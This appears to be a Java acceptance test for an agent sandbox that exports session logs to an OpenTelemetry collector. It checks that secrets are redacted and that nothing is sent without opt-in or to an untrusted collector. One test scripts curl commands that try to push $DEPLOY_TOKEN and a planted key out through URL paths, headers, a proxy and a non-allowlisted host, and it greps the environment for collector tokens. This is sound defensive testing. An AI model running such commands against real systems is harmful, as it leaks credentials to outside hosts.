package dev.botbottle.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import dev.botbottle.testkit.lab.LabProcess;
import dev.botbottle.testkit.lab.Request;
import dev.botbottle.testkit.lab.Site;
import dev.botbottle.testkit.model.CollectorHandler;
import java.io.IOException;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** The ledger of a real session on its way to a collector, and who can be in that way. */
class OtlpTest {
  private static final String COLLECTOR = "otel.example.com";
  private static final String TOKEN = "Bearer " + "collector-token-of-the-user";

  private static final Map<String, String> SETTINGS =
      Map.of(
          "OTEL_EXPORTER_OTLP_ENDPOINT", "https://" + COLLECTOR,
          "OTEL_EXPORTER_OTLP_HEADERS", "Authorization=" + TOKEN.replace(" ", "%20"));

  private static final String MANIFEST =
      """
      { "bottles": { "default": { "egress": { "allowlist": [ "docs.example.com" ] },
          "env": { "DEPLOY_TOKEN": { "value": "${DEPLOY_TOKEN}", "hosts": [] } } } } }
      """;

  /** Asks for what is denied before it ends: by then the gateway serves and has written of it. */
  private static final String ASKS = "curl -s http://docs.example.com:81/; exit 7";

  private static final String NONE_TAKEN =
      "([2-9]) of \\1 ledger entries did not reach the collector";

  private final Runner runner = Runner.first();

  @BeforeEach
  void canRun() {
    runner.assume();
  }

  private static Site collector() {
    return new Site(COLLECTOR, List.of(), CollectorHandler.class, TOKEN, Site.Certificate.VALID);
  }

  private static LabProcess.Result run(Scene scene, Map<String, String> more, String... words)
      throws IOException {
    Map<String, String> environment = new HashMap<>(more);
    environment.put("DEPLOY_TOKEN", Secrets.deployToken());
    try (LabProcess process = scene.bottle(environment, words)) {
      process.in().close();
      return process.await(Duration.ofMinutes(1));
    }
  }

  @ParameterizedTest
  @EnumSource
  void aSessionsEntriesArriveWithoutItsSecretsAndTheAgentCannotMakeUpAny(Runner who)
      throws IOException {
    who.assume();
    try (Scene scene = Scene.open(who, Site.echo("docs.example.com"), collector())) {
      scene.manifest(MANIFEST);
      String tries =
          "curl -s -o page https://docs.example.com/fine;"
              + " curl -s -o page \"https://docs.example.com/a/$DEPLOY_TOKEN/b?k=$DEPLOY_TOKEN\";"
              + " curl -s -o page \"https://nowhere.example.com/$DEPLOY_TOKEN\";"
              + " curl -s -o page -x 127.0.0.1:3128 \"http://docs.example.com/"
              + Secrets.plantedKey()
              + "?q="
              + Secrets.plantedKey()
              + "\"; curl -s -o page -H \"x: $DEPLOY_TOKEN\" https://docs.example.com/;"
              + " curl -s -m 5 --data '{}' https://"
              + COLLECTOR
              + "/v1/logs || echo unreachable;"
              + " env | grep -c -e OTEL -e collector-token";
      LabProcess.Result result =
          run(scene, SETTINGS, "start", "shell", "--yes", "--otlp", "--", "-c", tries);
      assertThat(result.out()).as(result.err()).isEqualTo("unreachable\n0\n");
      assertThat(result.err())
          .contains("is sent to https://otel.example.com/v1/logs", "with Authorization")
          .doesNotContain("did not reach the collector", "collector-token");
      StringBuilder all = new StringBuilder();
      for (Request request : scene.lab().requests(COLLECTOR)) {
        assertThat(request.header("Authorization")).contains(TOKEN);
        all.append(request.everything());
      }
      assertThat(all)
          .contains(
              "{\"key\":\"url.path\",\"value\":{\"stringValue\":\"/fine\"}}",
              "{\"key\":\"http.response.status_code\",\"value\":{\"intValue\":\"200\"}}",
              "{\"key\":\"detector\",\"value\":{\"stringValue\":\"known:DEPLOY_TOKEN\"}}",
              "{\"key\":\"detector\",\"value\":{\"stringValue\":\"github-token-shape\"}}",
              "\"eventName\":\"bottle.session\"",
              "the launcher closed the control pipe");
      for (String secret : List.of(Secrets.deployToken(), Secrets.plantedKey())) {
        for (String form : Secrets.disguises(secret)) {
          assertThat(all).doesNotContain(form);
        }
      }
      // What came is what the ledger has, entry by entry.
      String id = scene.sessions().getFirst().getFileName().toString();
      String logged = scene.bottleToItsEnd("logs", id, "--format", "otlp").out();
      assertThat(count(all.toString())).isEqualTo(count(logged)).isGreaterThan(6);
      assertThat(logged.lines()).hasSize(1);
    }
  }

  private static int count(String text) {
    return text.split("\"bottle\\.hash\"", -1).length - 1;
  }

  @Test
  void nothingIsSentUnlessTheUserAskedForIt() throws IOException {
    try (Scene scene = Scene.open(runner, Site.echo("docs.example.com"), collector())) {
      scene.manifest(MANIFEST);
      LabProcess.Result result =
          run(
              scene,
              SETTINGS,
              "start",
              "shell",
              "--yes",
              "--",
              "-c",
              "curl -s https://docs.example.com/ | wc -l");
      assertThat(result.exit()).as(result.err()).isZero();
      assertThat(scene.lab().requests(COLLECTOR)).isEmpty();
    }
  }

  @Test
  void aCollectorThatCannotBeTrustedGetsNothing() throws IOException {
    Site fake = collector().with(Site.Certificate.UNTRUSTED);
    try (Scene scene = Scene.open(runner, fake)) {
      LabProcess.Result result =
          run(scene, SETTINGS, "start", "shell", "--yes", "--otlp", "--", "-c", ASKS);
      assertThat(result.exit()).isEqualTo(7);
      assertThat(result.err())
          .containsPattern(NONE_TAKEN)
          .contains("its certificate, or its TLS, is not to be trusted");
      assertThat(scene.lab().requests(COLLECTOR)).isEmpty();
    }
  }

  @Test
  void aCollectorThatRefusesCostsTheSessionNothingButAWord() throws IOException {
    try (Scene scene = Scene.open(runner, collector())) {
      Map<String, String> noToken = Map.of("OTEL_EXPORTER_OTLP_ENDPOINT", "https://" + COLLECTOR);
      LabProcess.Result result =
          run(scene, noToken, "start", "shell", "--yes", "--otlp", "--", "-c", ASKS);
      assertThat(result.exit()).isEqualTo(7);
      assertThat(result.err()).containsPattern(NONE_TAKEN).contains("it answered with status 401");
      String id = scene.sessions().getFirst().getFileName().toString();
      assertThat(scene.bottleToItsEnd("ledger", "verify", id).out()).startsWith("intact: ");
    }
  }
}
